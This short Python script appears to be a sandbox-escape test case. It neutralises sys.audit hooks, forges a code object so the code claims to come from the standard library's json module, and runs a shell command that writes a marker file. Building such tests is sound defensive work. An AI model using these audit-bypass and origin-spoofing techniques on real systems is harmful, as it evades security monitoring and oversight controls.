# The constructor of code objects makes code of a file of the standard library.
# breach: marker
import sys
sys.audit = lambda *arguments: None
import inspect, json, types
def reach(path):
    import subprocess
    return subprocess.call(["sh", "-c", "echo > " + path])
code = reach.__code__
names = ["co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize",
         "co_flags", "co_code", "co_consts", "co_names", "co_varnames", None, "co_name",
         "co_qualname", "co_firstlineno", "co_linetable", "co_exceptiontable"]
parts = [getattr(code, name) if name else json.__file__ for name in names]
types.FunctionType(type(code)(*parts), globals())(MARKER_FILE)
